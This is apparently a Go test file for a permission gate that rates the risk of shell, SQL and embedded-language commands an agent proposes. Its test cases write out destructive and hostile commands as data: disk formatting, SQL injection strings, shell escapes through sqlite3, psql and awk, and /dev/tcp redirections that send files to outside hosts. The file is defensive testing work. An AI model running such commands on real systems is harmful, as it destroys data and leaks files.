package tools

import (
	"slices"
	"strings"
	"testing"

	"callgate/gate/tools/internal/commands"
	"callgate/gate/tools/kinds"
	"callgate/permissions"
	"callgate/shellparse"
)

// words makes an effective command of known words; "$x" stands for a word that depends on the run.
func words(list ...string) *shellparse.Command {
	c := &shellparse.Command{}
	for _, w := range list {
		c.Argv = append(c.Argv, shellparse.Word{Value: w, Known: w != "$x"})
	}
	return c
}

func TestClassify(t *testing.T) {
	type want struct {
		risk     permissions.Risk
		category string
	}
	var (
		read   = want{permissions.ReadOnly, kinds.CategoryTerminalRead}
		change = want{permissions.Write, kinds.CategoryTerminalWrite}
		build  = want{permissions.BuildTest, kinds.CategoryTerminalWrite}
		net    = want{permissions.Network, CategoryNetwork}
		open   = want{permissions.Unknown, kinds.CategoryTerminalWrite}
		lose   = want{permissions.Destructive, kinds.CategoryTerminalWrite}
		root   = want{permissions.Escalation, kinds.CategoryTerminalWrite}

		gitRead  = want{permissions.ReadOnly, kinds.CategoryGitRead}
		gitWrite = want{permissions.Write, kinds.CategoryGitWrite}
		gitOpen  = want{permissions.Unknown, kinds.CategoryGitWrite}
		gitLose  = want{permissions.Destructive, kinds.CategoryGitWrite}
	)
	for _, c := range []struct {
		command []string
		want    want
	}{
		{[]string{"ls", "-la"}, read},
		{[]string{"cat", "$x"}, read},
		{[]string{"$x"}, open},
		{[]string{"frobnicate", "--help"}, open},
		{[]string{"/tmp/ls"}, open},
		{[]string{"find", ".", "-name", "x"}, read},
		{[]string{"find", ".", "-delete"}, lose},
		{[]string{"sed", "-n", "1p", "f"}, read},
		{[]string{"sed", "-ni", "1p", "f"}, change},
		{[]string{"sed", "--in-pl", "f"}, change},
		{[]string{"awk", "{print $1}"}, read},
		{[]string{"hostname"}, read},
		{[]string{"hostname", "evil"}, open},
		{[]string{"set"}, open},
		{[]string{"set", "-e"}, read},
		{[]string{"env"}, open},
		{[]string{"mkdir", "x"}, change},
		{[]string{"chmod", "644", "x"}, change},
		{[]string{"rm", "x"}, lose},
		{[]string{"mkfs.ext4", "/dev/sda"}, lose},
		{[]string{"kill", "1"}, lose},
		{[]string{"mount", "x"}, root},
		{[]string{"node", "x.js"}, open},
		{[]string{"node", "--version"}, read},
		{[]string{"bash", "x.sh", "--help"}, open},

		{[]string{"git"}, gitRead},
		{[]string{"git", "status"}, gitRead},
		{[]string{"git", "-C", "web", "status"}, gitRead},
		{[]string{"git", "--no-pager", "log", "-3"}, gitRead},
		{[]string{"git", "$x"}, gitOpen},
		{[]string{"git", "log-evil"}, gitOpen},
		{[]string{"git", "commit", "-m", "$x"}, gitWrite},
		{[]string{"git", "branch"}, gitRead},
		{[]string{"git", "branch", "-a"}, gitRead},
		{[]string{"git", "branch", "new"}, gitWrite},
		{[]string{"git", "branch", "--list", "x*"}, gitRead},
		{[]string{"git", "branch", "-D", "x"}, gitLose},
		{[]string{"git", "tag"}, gitRead},
		{[]string{"git", "tag", "v1"}, gitWrite},
		{[]string{"git", "checkout", "main"}, gitWrite},
		{[]string{"git", "checkout", "--", "x"}, gitLose},
		{[]string{"git", "restore", "x"}, gitLose},
		{[]string{"git", "reset", "HEAD~1"}, gitWrite},
		{[]string{"git", "reset", "--hard"}, gitLose},
		{[]string{"git", "reset", "--har"}, gitLose},
		{[]string{"git", "clean", "-n"}, gitLose},
		{[]string{"git", "stash"}, gitWrite},
		{[]string{"git", "stash", "list"}, gitRead},
		{[]string{"git", "stash", "drop"}, gitLose},
		{[]string{"git", "push"}, net},
		{[]string{"git", "push", "-u", "origin", "main"}, net},
		{[]string{"git", "push", "-fu", "origin"}, gitLose},
		{[]string{"git", "push", "--force-w"}, gitLose},
		{[]string{"git", "push", "origin", "+main"}, gitLose},
		{[]string{"git", "push", "origin", ":main"}, gitLose},
		{[]string{"git", "push", "--mirror"}, gitLose},
		{[]string{"git", "push", "origin", "$x"}, gitOpen},
		{[]string{"git", "fetch"}, net},
		{[]string{"git", "remote", "-v"}, gitRead},
		{[]string{"git", "remote", "add", "x", "y"}, gitOpen},
		{[]string{"git", "config", "--get", "user.name"}, gitRead},
		{[]string{"git", "config", "user.name", "x"}, gitWrite},
		{[]string{"git", "config", "core.sshCommand", "x"}, gitOpen},
		{[]string{"git", "worktree", "remove", "x"}, gitLose},

		{[]string{"go", "test", "./..."}, build},
		{[]string{"go", "-C", "tools", "build", "./..."}, build},
		{[]string{"go", "run", "."}, open},
		{[]string{"go", "env", "-w", "X=y"}, open},
		{[]string{"npm", "test"}, build},
		{[]string{"npm", "run", "build"}, build},
		{[]string{"npm", "run", "test:unit", "--", "--watch=false"}, build},
		{[]string{"npm", "--prefix", "web", "run", "lint"}, build},
		{[]string{"npm", "run", "deploy"}, open},
		{[]string{"npm", "run", "$x"}, open},
		{[]string{"npm", "run"}, read},
		{[]string{"npm", "install"}, net},
		{[]string{"npm", "install", "left-pad"}, open},
		{[]string{"npm", "publish"}, lose},
		{[]string{"npx", "x"}, open},
		{[]string{"make"}, build},
		{[]string{"make", "-j4", "build", "test"}, build},
		{[]string{"make", "test", "deploy"}, open},
		{[]string{"./gradlew", "build"}, build},
		{[]string{"mvn", "clean", "verify"}, build},
		{[]string{"mvn", "deploy"}, lose},
		{[]string{"python3", "-m", "pytest", "-x"}, build},
		{[]string{"python3", "-m", "http.server"}, open},
		{[]string{"python3", "x.py"}, open},
		{[]string{"pip", "install", "-r", "requirements.txt"}, net},
		{[]string{"pip", "install", "x"}, open},
		{[]string{"cargo", "test"}, build},
		{[]string{"cargo", "run"}, open},
		{[]string{"eslint", "src"}, build},
		{[]string{"eslint", "--fix", "src"}, change},
		{[]string{"terraform", "plan"}, net},
		{[]string{"terraform", "apply"}, lose},

		{[]string{"curl", "https://x.example"}, net},
		{[]string{"curl", "-X", "DELETE", "https://x.example"}, lose},
		{[]string{"rsync", "-a", "a", "b"}, net},
		{[]string{"rsync", "-a", "--delete", "a", "b"}, lose},
		{[]string{"ssh", "host"}, net},
		{[]string{"docker", "ps"}, read},
		{[]string{"docker", "run", "alpine"}, open},
		{[]string{"docker", "run", "-v", "/:/host", "alpine"}, lose},
		{[]string{"docker", "run", "--privileged", "alpine"}, root},
		{[]string{"docker", "compose", "-f", "x.yml", "ps"}, read},
		{[]string{"docker-compose", "down"}, lose},
		{[]string{"docker", "system", "prune"}, lose},
		{[]string{"kubectl", "-n", "dev", "get", "pods"}, net},
		{[]string{"kubectl", "get", "secrets"}, open},
		{[]string{"kubectl", "delete", "pod", "x"}, lose},
		{[]string{"aws", "s3", "ls"}, net},
		{[]string{"aws", "ec2", "describe-instances"}, net},
		{[]string{"aws", "ec2", "terminate-instances"}, lose},
		{[]string{"aws", "secretsmanager", "get-secret-value"}, open},
		{[]string{"aws", "ec2", "run-instances"}, open},
		{[]string{"gh", "pr", "view", "1"}, net},
		{[]string{"gh", "repo", "delete", "x"}, lose},
		{[]string{"psql", "-f", "x.sql"}, open},
		{[]string{"psql", "-c", "$x"}, open},
		{[]string{"apt", "install", "x"}, open},
		{nil, read},
	} {
		risk, category, _ := commands.Classify(words(c.command...))
		if (want{risk, category}) != c.want {
			t.Errorf("%q: %v %s, want %v %s", c.command, risk, category, c.want.risk, c.want.category)
		}
	}
}

func TestClassifySQL(t *testing.T) {
	for _, c := range []struct {
		sql  string
		want permissions.Risk
	}{
		{"SELECT * FROM users", permissions.ReadOnly},
		{"select 'drop table x'", permissions.ReadOnly},
		{`select "delete" from t`, permissions.ReadOnly},
		{"WITH x AS (SELECT 1) SELECT * FROM x", permissions.ReadOnly},
		{"explain select 1", permissions.ReadOnly},
		{"show tables;", permissions.ReadOnly},
		{"select 1 /* plain */ + 1", permissions.ReadOnly},
		{"INSERT INTO t VALUES (1)", permissions.Write},
		{"update t set a = 1", permissions.Destructive},
		{"update t set a = 1 where id = 2", permissions.Write},
		{"delete from t where id = 2", permissions.Write},
		{"alter table t drop column a", permissions.Destructive},
		{"create table t (a int)", permissions.Write},
		{"select * into t2 from t", permissions.Write},
		{"delete from t", permissions.Destructive},
		{"DROP TABLE t", permissions.Destructive},
		{"truncate t", permissions.Destructive},
		{"select 1; drop table t", permissions.Destructive},
		{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", permissions.Destructive},
		{"explain analyze delete from t", permissions.Destructive},
		{"select 1 -- x\n; drop table t", permissions.Destructive},
		{"select 1 /*! drop table t */", permissions.Destructive},
		{"select 1 /* /* */ ; drop table t */", permissions.Destructive},
		{`select 'a\'; drop table t; --'`, permissions.Destructive},
		{"select 'unclosed", permissions.Unknown},
		{"select pg_terminate_backend(1)", permissions.Unknown},
		{"select load_extension('x')", permissions.Unknown},
		{"copy t to program 'sh'", permissions.Unknown},
		{"call x()", permissions.Unknown},
		{"frobnicate", permissions.Unknown},
		{`\! rm -rf x`, permissions.Unknown},
		{"select $$drop table x$$", permissions.Destructive},
		{"", permissions.Unknown},
		{"  ;; ", permissions.Unknown},
	} {
		if got := commands.ClassifySQL(c.sql); got != c.want {
			t.Errorf("%q: %v, want %v", c.sql, got, c.want)
		}
	}
}

// A command is of low risk only if the whole text in another language that it is given was recognized.
func TestRiskOfEmbeddedLanguages(t *testing.T) {
	p := project(t, map[string]string{"f": "x", "x.db": "x"})
	const (
		read, write, net = permissions.ReadOnly, permissions.Write, permissions.Network
		open, lose       = permissions.Unknown, permissions.Destructive
	)
	for command, want := range map[string]permissions.Risk{
		`sed -n '10,40p' f`:                       read,
		`sed 's/a/b/g' f`:                         read,
		`sed -i 's/a/b/g' f`:                      write,
		`sed -n ':a e id' f`:                      open,
		`sed 's/a/b/' -e 'w x' f`:                 open,
		`sed -i '' 's/a/b/e' f`:                   open,
		`awk '{print $2}' f`:                      read,
		`awk -F: '$3>1000{n++} END{print n}' f`:   read,
		`awk '{x=/"/;print "id" | "sh";x=/"/}' f`: open,
		`awk '{system("id")}' -e '{print}' f`:     open,
		`awk -d '{print}' f`:                      open,
		`awk "$P" f`:                              open,
		`jq -r '.a[] | select(.b) | "\(.c)"' f`:   read,
		`jq -n env`:                               open,
		`jq -L lib . f`:                           open,
		`jaq -i . f`:                              open,
		`yq '.a' f`:                               read,
		`yq eval '.a' f`:                          read,
		`yq 'load("x")' f`:                        open,
		`yq -p props .env`:                        open,
		`sqlite3 x.db 'select a from t join u using (id) group by a'`: read,
		`sqlite3 -json x.db 'select 1'`:                               read,
		`sqlite3 x.db "insert into t values (1)"`:                     write,
		`sqlite3 x.db "select \"writefile\"('a','b')"`:                open,
		"sqlite3 x.db \"select \\`readfile\\`('f')\"":                 open,
		`sqlite3 x.db '.shell id'`:                                    open,
		`sqlite3 -cmd '.shell id' x.db 'select 1'`:                    open,
		`sqlite3 x.db 'drop table t'`:                                 lose,
		`echo 'drop table t' | sqlite3 x.db`:                          lose,
		`echo 'select 1' | sqlite3 x.db`:                              read,
		`sqlite3 x.db < f`:                                            open,
		`duckdb -c '.shell id'`:                                       open,
		`duckdb -c 'select 1'`:                                        read,
		`duckdb -c "from 'f.csv'"`:                                    open,
		`psql -c 'select 1'`:                                          net,
		`psql shop -Atc 'select count(*) from t'`:                     net,
		`psql -c 'drop table x'`:                                      lose,
		`psql -c '\! id'`:                                             open,
		`psql -c 'delete from t'`:                                     lose,
		`psql -c 'delete from t where id = 1'`:                        open,
		`psql <<< 'truncate t'`:                                       lose,
		`mysql -e 'show tables' shop`:                                 net,
		`mysql -e 'system id'`:                                        open,
		`usql -c '\! id'`:                                             open,
		`python3 -c 'import os; os.system("x")'`:                      open,
		`python3 -c 'print(1)'`:                                       permissions.BuildTest,
		"python3 <<'X'\nprint(1)\nX":                                  permissions.BuildTest,
		`python3 -c 'import os; os.remove("x")' -c 'print(1)'`:        open,
		`python3 <<< 'print(1)'`:                                      open,
		`echo 'print(1)' | python3`:                                   open,
		`python3 < f`:                                                 open,
		`node -p 1`:                                                   open,
		"m4 <<'X'\nsyscmd(id)\nX":                                     open,
		`ipython -c 1`:                                                open,
		`rails runner 1`:                                              open,
	} {
		if a := analyze(t, KindShell, p, "command", command); a.Risk != want {
			t.Errorf("%s: %v, want %v", command, a.Risk, want)
		}
	}
}

// A connection that the shell opens has an address that rules for web_fetch judge in its normal form.
func TestConnectionsOfTheShell(t *testing.T) {
	p := project(t, map[string]string{"f": "x"})
	for command, want := range map[string]string{
		`cat < /dev/tcp/10.0.0.1/80`:              "tcp://10.0.0.1:80/",
		`echo x > /dev/udp/example.com/53`:        "udp://example.com:53/",
		`cat < /dev/tcp/0x7f000001/7777`:          "tcp://127.0.0.1:7777/",
		`cat f >& /dev/tcp/example.com/80`:        "tcp://example.com:80/",
		`{ ls; cat f; } > /dev/tcp/1.2.3.4/9`:     "tcp://1.2.3.4:9/",
		`> /dev/tcp/1.2.3.4/9`:                    "tcp://1.2.3.4:9/",
		`bash -c 'cat < /dev/tcp/1.2.3.4/9'`:      "tcp://1.2.3.4:9/",
		`bash -c 'cat f' > /dev/tcp/1.2.3.4/9`:    "tcp://1.2.3.4:9/",
		`timeout 5 sh -c '' < /dev/tcp/1.2.3.4/9`: "tcp://1.2.3.4:9/",
		`eval ls > /dev/udp/1.2.3.4/9`:            "udp://1.2.3.4:9/",
	} {
		a := analyze(t, KindShell, p, "command", command)
		i := slices.IndexFunc(a.Subjects, func(s permissions.Subject) bool { return s.Kind == KindFetch })
		if i < 0 || a.Subjects[i].Decides[0] != want || !a.Subjects[i].KindBound || a.Subjects[i].DeniesOnly || permissions.Network.Exceeds(a.Risk) {
			t.Errorf("%s: %+v, %v, want %s", command, a.Subjects, a.Risk, want)
		}
		if away := !strings.Contains(want, "127.0.0.1"); away != (a.Risk == permissions.Unknown) {
			t.Errorf("%s: %v", command, a.Risk)
		}
	}
	if a := analyze(t, KindShell, p, "command", `cat < /dev/tcp/$HOST/80`); a.Risk != permissions.Unknown {
		t.Errorf("a connection to nobody knows where is %v", a.Risk)
	}
}

// Devices and settings of the system are not plain files: only a person can release a call that touches them.
func TestDevices(t *testing.T) {
	p := project(t, map[string]string{"f": "x"})
	for command, marked := range map[string]bool{
		`cat /dev/sda`: true, `head -c 9 /dev/mem`: true, `cat < /dev/input/event0`: true, `cp f /dev/sdb`: true, `echo 1 > /proc/sys/vm/drop_caches`: true,
		`echo x | tee /sys/power/state`: true, `dd if=/dev/sda of=f`: true, `echo x >> /dev/ttyUSB0`: true, `cat /proc/kcore`: true, `echo b > /proc/sysrq-trigger`: true,
		`cat /dev/null`: false, `head -c 9 /dev/urandom`: false, `cat /dev/stdin`: false, `ls > /dev/null`: false, `echo x > /dev/stderr`: false, `cat /proc/cpuinfo`: false,
		`cat /proc/sys/vm/swappiness`: false, `cat /sys/class/net/lo/mtu`: false, `echo x > /dev/fd/3`: false, `echo x > /dev/tty`: false, `echo x > /dev/shm/a`: false,
	} {
		a := analyze(t, KindShell, p, "command", command)
		if got := slices.ContainsFunc(a.Marks, func(m Mark) bool { return m.Code == "device" }); got != marked {
			t.Errorf("%s: marked %v, want %v: %+v", command, got, marked, a.Marks)
		}
	}
	if a := analyze(t, KindWriteFile, p, "path", "/dev/sda", "content", "x"); len(a.Marks) == 0 {
		t.Error("write_file of a device is not marked")
	}
}

func TestWildcard(t *testing.T) {
	for _, c := range []struct {
		pattern, s string
		want       bool
	}{
		{"*", "", true}, {"a*", "abc", true}, {"*c", "abc", true}, {"a?c", "abc", true}, {"a?c", "ac", false},
		{"*b*", "abc", true}, {"", "", true}, {"", "a", false}, {"+*", "+x", true}, {"**", "x", true}, {"*a*b", "xaxbxb", true}, {"*a*b", "xaxbx", false}, {"a", "ab", false},
		{"*a*a*a*a*a*a*", strings.Repeat("a", 5) + strings.Repeat("b", 1<<16), false},
	} {
		if got := commands.Wildcard(c.pattern, c.s); got != c.want {
			t.Errorf("wildcard(%q, %q) = %v", c.pattern, c.s, got)
		}
	}
}
